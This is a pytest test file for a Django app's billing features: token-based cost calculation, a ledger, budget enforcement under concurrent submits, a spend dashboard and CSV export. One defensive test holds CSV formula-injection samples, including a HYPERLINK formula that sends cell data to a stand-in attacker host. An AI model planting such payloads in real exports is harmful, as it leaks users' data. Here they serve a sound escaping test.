"""Money: exact costs from usage, the ledger, estimates, budgets under concurrency, the dashboard."""

import csv
import io
import threading
from datetime import timedelta
from decimal import Decimal

import pytest
from django.db import IntegrityError, connection, transaction
from django.urls import reverse
from django.utils import timezone

from tests.conftest import GENERATION_POST, job_params
from tests.factories import MembershipFactory, ProjectFactory, UserFactory
from tests.helpers import create_job, run
from workspace import jobs, spend, worker
from workspace.models import ApiCall, Budget, Job, LedgerEntry, Price, Role

pytestmark = pytest.mark.django_db

# Usage as the API reports it, for four kinds of call.
TEXT_ONLY_HIGH_SQUARE = {
    "input_tokens": 50,
    "input_tokens_details": {"text_tokens": 50, "image_tokens": 0},
    "output_tokens": 7024,
    "output_tokens_details": {"image_tokens": 7024, "text_tokens": 0},
    "total_tokens": 7074,
}
EDIT_WITH_THREE_INPUTS = {
    "input_tokens": 3940,
    "input_tokens_details": {"text_tokens": 40, "image_tokens": 3900},
    "output_tokens": 1756,
    "total_tokens": 5696,
}
FOUR_LOW_IMAGES = {
    "input_tokens": 20,
    "input_tokens_details": {"text_tokens": 20, "image_tokens": 0},
    "output_tokens": 800,
    "output_tokens_details": {"image_tokens": 800, "text_tokens": 0},
    "total_tokens": 820,
}
CUSTOM_SIZE_WITH_CACHE = {
    "input_tokens": 30,
    "input_tokens_details": {"text_tokens": 30, "image_tokens": 0, "cached_tokens": 10},
    "output_tokens": 5000,
    "total_tokens": 5030,
}


# Worked by hand from the seeded rates ($ per million tokens):
#   gpt-image-2   text 5, cached text 1.25, image in 8, image out 30
#   gpt-image-1.5 text 5, cached text 1.25, image in 8, image out 32
#   1-mini        text 2, cached text 0.20, image in 2.50, image out 8
@pytest.mark.parametrize(
    ("model", "usage", "expected"),
    [
        ("gpt-image-2", TEXT_ONLY_HIGH_SQUARE, "0.210970"),  # 50*5 + 7024*30 = 210,970 µ$
        ("gpt-image-2", EDIT_WITH_THREE_INPUTS, "0.084080"),  # 40*5 + 3900*8 + 1756*30
        ("gpt-image-2", FOUR_LOW_IMAGES, "0.024100"),  # 20*5 + 800*30
        ("gpt-image-2", CUSTOM_SIZE_WITH_CACHE, "0.150113"),  # 20*5 + 10*1.25 + 5000*30 = 150,112.5, half up
        ("gpt-image-1.5", TEXT_ONLY_HIGH_SQUARE, "0.225018"),  # 50*5 + 7024*32
        ("gpt-image-1.5", EDIT_WITH_THREE_INPUTS, "0.087592"),  # 40*5 + 3900*8 + 1756*32
        ("gpt-image-1.5", FOUR_LOW_IMAGES, "0.025700"),
        ("gpt-image-1.5", CUSTOM_SIZE_WITH_CACHE, "0.160113"),
        ("gpt-image-1-mini", TEXT_ONLY_HIGH_SQUARE, "0.056292"),  # 50*2 + 7024*8
        ("gpt-image-1-mini", EDIT_WITH_THREE_INPUTS, "0.023878"),  # 40*2 + 3900*2.5 + 1756*8
        ("gpt-image-1-mini", FOUR_LOW_IMAGES, "0.006440"),
        ("gpt-image-1-mini", CUSTOM_SIZE_WITH_CACHE, "0.040042"),  # 20*2 + 10*0.2 + 5000*8
    ],
)
def test_the_cost_of_a_call_matches_the_hand_computed_figure(model, usage, expected):
    cost = spend.cost(spend.Tokens.from_usage(usage), spend.price_for(model))
    assert cost == Decimal(expected)
    assert isinstance(cost, Decimal)


def test_a_snapshot_is_priced_as_its_model_and_a_new_model_has_no_price():
    assert spend.price_for("gpt-image-2-2026-04-21").model == "gpt-image-2"
    assert spend.price_for("gpt-image-2.5-sunburst") is None


def test_the_price_in_force_on_the_day_is_used():
    Price.objects.create(
        model="gpt-image-2",
        effective_from=timezone.localdate() + timedelta(days=30),
        text_input=1,
        cached_text_input=1,
        image_input=1,
        cached_image_input=1,
        image_output=1,
        text_output=1,
    )
    assert spend.price_for("gpt-image-2").image_output == Decimal(30)
    assert spend.price_for("gpt-image-2", timezone.localdate() + timedelta(days=31)).image_output == Decimal(
        1
    )


def test_a_job_writes_one_charge_per_call_from_its_usage(project, cast, standin):
    job = run(create_job(project=project, author=cast.bob, quality="high", n=2))
    call = job.api_calls.get()
    entry = LedgerEntry.objects.get(job=job)
    assert entry.api_call == call
    assert (entry.user, entry.project, entry.model, entry.request_id) == (
        cast.bob,
        project,
        "gpt-image-2",
        call.request_id,
    )
    assert entry.image_output_tokens == call.output_image_tokens
    assert entry.text_input_tokens == call.input_text_tokens
    assert entry.image_count == 2
    assert entry.rates["image_output"] == "30.000000"
    expected = spend.cost(spend.Tokens.from_usage(call.usage), spend.price_for("gpt-image-2"))
    assert entry.cost == expected > 0

    # Charging the same call again changes nothing, and the database refuses a second row outright.
    spend.charge(api_call=call, job=job)
    assert LedgerEntry.objects.filter(job=job).count() == 1
    with pytest.raises(IntegrityError), transaction.atomic():
        LedgerEntry.objects.create(api_call=call, user=cast.bob, project=project, job=job, model="x", cost=1)


def test_a_retried_call_that_failed_before_usage_costs_nothing_and_says_so(client, project, cast, standin):
    standin.inject("500")
    job = run(create_job(project=project, author=cast.bob))
    Job.objects.filter(pk=job.pk).update(next_attempt_at=timezone.now())
    job = run(job)
    assert job.status == Job.Status.SUCCEEDED
    failed, succeeded = job.api_calls.order_by("attempt")
    assert not LedgerEntry.objects.filter(api_call=failed).exists()
    assert LedgerEntry.objects.filter(api_call=succeeded).count() == 1
    client.force_login(cast.bob)
    page = client.get(reverse("job_detail", args=[project.pk, job.pk])).content.decode()
    assert "nothing charged" in page
    assert f"${succeeded.charge.cost.quantize(Decimal('0.001'))}" in page


def test_an_unpriced_model_is_recorded_in_tokens_and_flagged(project, cast, standin, client):
    job = run(create_job(project=project, author=cast.bob, model="gpt-image-2.5-sunburst"))
    entry = LedgerEntry.objects.get(job=job)
    assert entry.priced is False
    assert entry.cost == 0
    assert entry.image_output_tokens > 0
    client.force_login(cast.sam)
    page = client.get(reverse("spend_dashboard")).content.decode()
    assert "No price set" in page and "gpt-image-2.5-sunburst" in page


# --- Estimates -------------------------------------------------------------------------------------------


def test_the_estimate_follows_quality_size_count_and_model():
    def cost(**changes):
        params = {"model": "gpt-image-2", "quality": "high", "size": "1024x1024", "n": 1} | changes
        return spend.estimate(**params, prompt="a lemon").cost

    assert cost() == Decimal("0.210730")  # 2 text tokens*5 + 7024*30, as OpenAI's $0.211 example
    assert cost(quality="low") < cost(quality="medium") < cost()
    assert cost(quality="auto") == cost()  # auto is budgeted as the worst case
    assert cost(n=4) > 3 * cost()
    assert cost(size="2048x1152") > cost(size="1536x1024")
    assert cost(model="gpt-image-1-mini") < cost()
    unpriced = spend.estimate(model="gpt-image-2.5-flare", quality="high", size="1024x1024", n=1)
    assert unpriced.cost == Decimal("0.210725")  # at gpt-image-2 rates: 1 text token*5 + 7024*30
    assert "No price is set for gpt-image-2.5-flare" in unpriced.note


def test_the_estimate_endpoint_answers_the_form_as_it_stands(client, cast, project):
    client.force_login(cast.bob)
    url = reverse("estimate", args=[project.pk])
    low = client.get(url, GENERATION_POST | {"quality": "low"}).content.decode()
    high = client.get(url, GENERATION_POST | {"quality": "high"}).content.decode()
    assert "Estimated cost <strong>$0.006</strong>" in low
    assert "Estimated cost <strong>$0.211</strong>" in high
    invalid = client.get(url, GENERATION_POST | {"n": "99"}).content.decode()
    assert "No estimate yet: Ensure this value is less than or equal to 10." in invalid
    no_prompt = client.get(url, GENERATION_POST | {"prompt": "", "quality": "high"}).content.decode()
    assert "Estimated cost <strong>$0.211</strong>" in no_prompt
    client.force_login(cast.charlie)
    assert client.get(url, GENERATION_POST).status_code == 404


# --- Budgets ---------------------------------------------------------------------------------------------


def test_a_job_over_budget_is_refused_with_what_is_left(client, cast, project, generation_post):
    Budget.objects.create(user=cast.bob, monthly_limit=Decimal("0.10"))
    client.force_login(cast.bob)
    response = client.post(
        reverse("job_create", args=[project.pk]),
        generation_post | {"quality": "high"},
        HTTP_HX_REQUEST="true",
    )
    assert response.status_code == 402
    assert "This job would cost about $0.21, but only $0.10 is left of your $0.10 budget this month." in (
        response.content.decode()
    )
    assert Job.objects.count() == 0


def test_a_project_budget_applies_to_everyone_in_it(cast, project):
    Budget.objects.create(project=project, monthly_limit=Decimal("0.30"))
    jobs.job_create(project=project, author=cast.bob, prompt="a", params=job_params(quality="high"))
    with pytest.raises(spend.BudgetExceeded, match=r"the project's \$0\.30 budget"):
        jobs.job_create(project=project, author=cast.alice, prompt="b", params=job_params(quality="high"))


def test_the_reservation_settles_to_the_actual_cost_on_success(cast, project, standin):
    Budget.objects.create(user=cast.bob, monthly_limit=Decimal(5))
    job = jobs.job_create(
        project=project, author=cast.bob, prompt="a lemon", params=job_params(quality="high")
    )
    assert job.reserved_cost == job.estimated_cost > 0
    assert spend.used(user=cast.bob) == job.estimated_cost
    job = run(job)
    actual = LedgerEntry.objects.get(job=job).cost
    assert job.reserved_cost == 0
    assert spend.used(user=cast.bob) == actual
    assert spend.summary_for(cast.bob).spent == actual


@pytest.mark.parametrize("ending", ["failure", "cancel"])
def test_the_reservation_is_released_when_a_job_fails_or_is_canceled(cast, project, standin, ending):
    Budget.objects.create(user=cast.bob, monthly_limit=Decimal(5))
    job = jobs.job_create(project=project, author=cast.bob, prompt="a lemon", params=job_params())
    if ending == "failure":
        standin.inject("moderation")
        job = run(job)
        assert job.status == Job.Status.FAILED
    else:
        assert jobs.job_cancel(job=job)
        job.refresh_from_db()
    assert job.reserved_cost == 0
    assert spend.used(user=cast.bob) == 0
    # Retrying holds the estimate back again.
    jobs.job_retry(job=job)
    job.refresh_from_db()
    assert job.reserved_cost == job.estimated_cost == spend.used(user=cast.bob)


def test_the_sweep_releases_a_job_it_gives_up_on(cast, project):
    job = jobs.job_create(project=project, author=cast.bob, prompt="a", params=job_params())
    Job.objects.filter(pk=job.pk).update(
        status="running", attempts=5, lease_expires_at=timezone.now() - timedelta(seconds=1)
    )
    worker.jobs_sweep()
    job.refresh_from_db()
    assert (job.status, job.reserved_cost) == ("failed", 0)


@pytest.mark.django_db(transaction=True)
def test_fifty_simultaneous_submits_against_a_budget_for_ten_accept_ten(monkeypatch, seeded_prices):
    monkeypatch.setattr(jobs, "_enqueue", lambda job_id, countdown=None: None)
    user = UserFactory(username="rush")
    project = ProjectFactory(name="Rush", created_by=user)
    params = job_params(quality="high")
    each = jobs.job_estimate(prompt="a lemon", params=params).cost
    assert each == Decimal("0.210730")
    Budget.objects.create(
        user=user, monthly_limit=(each * 10 + each / 2).quantize(Decimal("0.01"), rounding="ROUND_DOWN")
    )

    start = threading.Barrier(50)
    outcomes: list[str] = []
    lock = threading.Lock()

    def submit() -> None:
        try:
            start.wait()
            jobs.job_create(project=project, author=user, prompt="a lemon", params=params)
            result = "accepted"
        except spend.BudgetExceeded:
            result = "refused"
        except Exception as error:  # reported by the assertion below, not lost in a thread
            result = f"error: {error!r}"
        finally:
            connection.close()
        with lock:
            outcomes.append(result)

    threads = [threading.Thread(target=submit) for _ in range(50)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert len(outcomes) == 50
    assert not [outcome for outcome in outcomes if outcome.startswith("error")], outcomes
    assert outcomes.count("accepted") == 10
    assert Job.objects.filter(author=user).count() == 10
    assert spend.used(user=user) <= Budget.objects.get(user=user).monthly_limit


# --- What people see -----------------------------------------------------------------------------------


def test_the_badge_shows_my_month_and_warns_from_80_percent(client, cast, project, standin):
    client.force_login(cast.bob)
    run(create_job(project=project, author=cast.bob, quality="high"))
    spent = spend.summary_for(cast.bob).spent
    assert 'hx-get="/spend/badge"' in client.get(reverse("home")).content.decode()
    page = client.get(reverse("spend_badge")).content.decode()
    assert 'id="spend-badge"' in page
    assert f"${spent.quantize(Decimal('0.001'))}" in page
    assert "warn" not in page.split('id="spend-badge"')[1].split(">")[0]
    Budget.objects.create(user=cast.bob, monthly_limit=(spent / Decimal("0.85")).quantize(Decimal("0.01")))
    page = client.get(reverse("spend_badge")).content.decode()
    assert 'class="spend-badge warn"' in page
    assert "over 80 % of the budget" in page


def test_the_finished_card_moves_the_badge(client, cast, project, standin):
    job = run(create_job(project=project, author=cast.bob))
    client.force_login(cast.bob)
    response = client.get(reverse("job_card", args=[project.pk, job.pk]), HTTP_HX_REQUEST="true")
    assert response["HX-Trigger"] == '{"spend-changed": {}}'  # the badge listens and refetches itself
    badge = client.get(reverse("home")).content.decode()
    assert 'hx-trigger="load, spend-changed from:body"' in badge


def test_the_job_page_shows_actual_against_estimate(client, cast, project, standin):
    job = jobs.job_create(
        project=project, author=cast.bob, prompt="a lemon", params=job_params(quality="high")
    )
    job = run(job)
    client.force_login(cast.bob)
    html = client.get(reverse("job_detail", args=[project.pk, job.pk])).content.decode()
    assert "Estimated cost</dt><dd>$0.211" in html
    actual = LedgerEntry.objects.get(job=job).cost.quantize(Decimal("0.001"))
    assert f"Actual cost</dt><dd>${actual}" in html


# --- The dashboard ------------------------------------------------------------------------------------


@pytest.fixture
def spending(cast, project, other_project, standin):
    MembershipFactory(project=other_project, user=cast.bob, role=Role.EDITOR)
    run(create_job(project=project, author=cast.bob, quality="high", n=2))
    run(create_job(project=project, author=cast.alice, quality="low"))
    run(create_job(project=other_project, author=cast.bob, model="gpt-image-1.5", quality="medium"))
    run(create_job(project=other_project, author=cast.charlie, model="gpt-image-1-mini", quality="low", n=3))
    return LedgerEntry.objects.all()


def test_dashboard_and_csv_totals_equal_the_ledgers_sums(client, cast, spending):
    client.force_login(cast.sam)
    response = client.get(reverse("spend_dashboard"))
    assert response.status_code == 200
    report = response.context["report"]
    total = sum(entry.cost for entry in spending)
    assert report.totals["cost"] == total
    assert report.totals["images"] == 2 + 1 + 1 + 3
    assert report.totals["calls"] == 4
    assert sum(row["cost"] for row in report.by_user) == total
    assert sum(row["cost"] for row in report.by_project) == total
    assert sum(row["cost"] for row in report.by_model) == total
    assert sum(day["cost"] for day in report.daily) == total
    bob = next(row for row in report.by_user if row["user__username"] == "bob")
    assert bob["cost"] == sum(entry.cost for entry in spending if entry.user == cast.bob)
    assert report.by_user[0]["cost"] >= report.by_user[-1]["cost"]  # top spenders first

    rows = list(csv.reader(io.StringIO(client.get(reverse("spend_csv")).content.decode())))
    assert rows[0] == ["section", "name", "cost_usd", "images", "calls", "tokens"]
    by_section: dict[str, Decimal] = {}
    for section, _name, cost, *_ in rows[1:]:
        by_section[section] = by_section.get(section, Decimal(0)) + Decimal(cost)
    assert by_section == {"user": total, "project": total, "model": total, "day": total, "total": total}


def test_an_empty_month_gives_an_empty_but_valid_csv(client, cast):
    client.force_login(cast.sam)
    response = client.get(reverse("spend_csv"), {"period": "last_month"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][0] == "section"
    assert rows[-1] == ["total", "", "0", "0", "0", "0"]
    assert all(row[0] == "day" and row[2] == "0" for row in rows[1:-1])


def test_a_date_range_the_wrong_way_round_is_explained(client, cast):
    client.force_login(cast.sam)
    params = {"period": "custom", "start": "2026-11-10", "end": "2026-11-01"}
    response = client.get(reverse("spend_dashboard"), params)
    assert response.status_code == 400
    assert "The end date is before the start date." in response.content.decode()
    assert client.get(reverse("spend_csv"), params).status_code == 400
    assert client.get(reverse("spend_dashboard"), {"period": "custom", "start": "soon"}).status_code == 400


def test_only_staff_see_everyones_spend(client, cast, spending):
    client.force_login(cast.bob)
    assert client.get(reverse("spend_dashboard")).status_code == 404
    assert client.get(reverse("spend_csv")).status_code == 404
    mine = client.get(reverse("my_spend")).content.decode()
    assert "Spring campaign" in mine
    assert "charlie" not in mine
    assert ApiCall.objects.count() == 4


# --- Admin input --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("-5", "A budget cannot be negative."),
        ("5000000", "more than $1,000,000 a month"),
        ("lots", "Enter a number."),
    ],
)
def test_an_admin_cannot_set_a_bad_budget(admin_client, cast, value, message):
    response = admin_client.post(
        reverse("admin:workspace_budget_add"), {"user": cast.bob.pk, "monthly_limit": value}
    )
    assert response.status_code == 200
    assert message in response.content.decode()
    assert Budget.objects.count() == 0


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("30.1234567", "no more than 6 decimal places"),
        ("thirty", "Enter a number."),
        ("-1", "cannot be negative"),
    ],
)
def test_an_admin_cannot_set_a_bad_price(admin_client, value, message):
    data = {
        "model": "gpt-image-2.5-sunburst",
        "effective_from": "2026-09-08",
        "text_input": "5",
        "cached_text_input": "1.25",
        "image_input": "8",
        "cached_image_input": "2",
        "image_output": value,
        "text_output": "10",
    }
    response = admin_client.post(reverse("admin:workspace_price_add"), data)
    assert message in response.content.decode()
    assert not Price.objects.filter(model="gpt-image-2.5-sunburst").exists()
    response = admin_client.post(reverse("admin:workspace_price_add"), data | {"image_output": "40"})
    assert response.status_code == 302
    assert spend.price_for("gpt-image-2.5-sunburst").image_output == Decimal(40)


def test_the_ledger_cannot_be_edited_in_the_admin(admin_client, spending):
    entry = spending.first()
    assert admin_client.get(reverse("admin:workspace_ledgerentry_changelist")).status_code == 200
    assert (
        admin_client.post(
            reverse("admin:workspace_ledgerentry_change", args=[entry.pk]), {"cost": "0"}
        ).status_code
        == 403
    )
    assert admin_client.get(reverse("admin:workspace_ledgerentry_add")).status_code == 403


def test_the_edit_form_estimate_counts_its_input_images(client, cast, project):
    client.force_login(cast.bob)
    url = reverse("estimate", args=[project.pk])
    base = {"kind": "edit", "model": "gpt-image-2", "size": "auto", "quality": "low", "output_format": "png"}
    base |= {"background": "auto", "n": "1"}
    one = client.get(url, base | {"inputs": ["ref:1"]}).content.decode()
    three = client.get(url, base | {"inputs": ["ref:1", "ref:2", "ref:3"]}).content.decode()
    # low quality at 1536x1024 (auto is budgeted as the largest standard size): 167 tokens*30, plus
    # 1,300 image tokens an input at $8/M.
    assert "Estimated cost <strong>$0.015</strong>" in one  # 1 text*5 + 1300*8 + 167*30 = 15,415 µ$
    assert "Estimated cost <strong>$0.036</strong>" in three  # 1 text*5 + 3900*8 + 167*30 = 36,215 µ$


def test_csv_cells_that_look_like_formulas_arrive_as_text(client, cast, standin):
    """OWASP CSV injection: a name starting with = + - @ tab or CR gets a leading quote."""
    names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]
    for name in names:
        project = ProjectFactory(name=name, created_by=cast.alice)
        run(create_job(project=project, author=cast.alice, quality="low"))
    ProjectFactory(name="Plain name", created_by=cast.alice)
    client.force_login(cast.sam)
    rows = list(csv.reader(io.StringIO(client.get(reverse("spend_csv")).content.decode(), newline="")))
    projects = {row[1] for row in rows if row[0] == "project"}
    assert projects == {"'" + name for name in names}
    # Numbers stay numbers.
    total = next(row for row in rows if row[0] == "total")
    assert Decimal(total[2]) > 0


def test_csv_cell_leaves_safe_values_alone():
    from workspace.views.spend import csv_cell

    assert csv_cell("Spring campaign") == "Spring campaign"
    assert csv_cell(Decimal("-1.5")) == Decimal("-1.5")
    assert csv_cell("") == ""
    assert csv_cell("=1") == "'=1"
